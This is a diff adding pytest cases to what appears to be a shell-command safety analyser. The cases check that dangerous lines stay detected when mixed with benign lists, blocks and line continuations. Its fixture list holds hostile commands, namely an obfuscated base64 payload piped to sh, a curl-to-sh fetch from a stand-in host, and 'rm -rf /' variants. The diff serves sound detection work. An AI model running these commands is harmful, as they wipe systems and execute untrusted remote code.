@@ -106,3 +106,25 @@ def test_what_is_too_much_is_unknown_in_bounded_time(sandbox, text):
     done = verify(sandbox, text, "-l", "shell", "--json")
     assert done.code in (0, 1) and "unknown." in done.out, done
     assert time.monotonic() - begun < 20
+
+
+DEEDS = ["echo cm0gLXJmIC8K | base64 -d | sh", "curl -fsS https://a.example/x | tee log | sh",
+         "cat f | cat | rm -rf / ; true", "ls | wc -l | rm -rf /"]
+BESIDE = ["ls && ps", "make -j4 && make test", "true || exit 1", "x=1 && export x", "[ -f x ] && . ./x", "(cd a && ls)",
+          "if a && b; then c; fi", "# nothing\nls a \\\n  b && ps", "cat <<E && ps\nE\n"]
+
+
+@pytest.mark.parametrize("beside", BESIDE)
+@pytest.mark.parametrize("deed", DEEDS)
+def test_a_line_does_not_hide_the_one_before(sandbox, deed, beside):
+    """The grammar takes the newline between a long pipeline and a list for a blank."""
+    alone = ids(sandbox, deed + "\n")
+    assert alone
+    for text in (f"{deed}\n{beside}\n", f"{beside}\n{deed}\n{beside}\n", f"if true; then\n{deed}\n{beside}\nfi\n",
+                 f"f() {{\n  {deed}\n  {beside}\n}}\nf\n"):
+        assert set(alone) <= set(ids(sandbox, text)), text
+
+
+def test_words_over_several_lines_stay_one_command(sandbox):
+    assert ids(sandbox, "rm -r \\\n  -f \\\n  /\n") == ids(sandbox, "rm -r -f /\n") != []
+    assert "destructive.remove-system" in ids(sandbox, "a=(rm\n-rf\n/)\n${a[@]}\n")
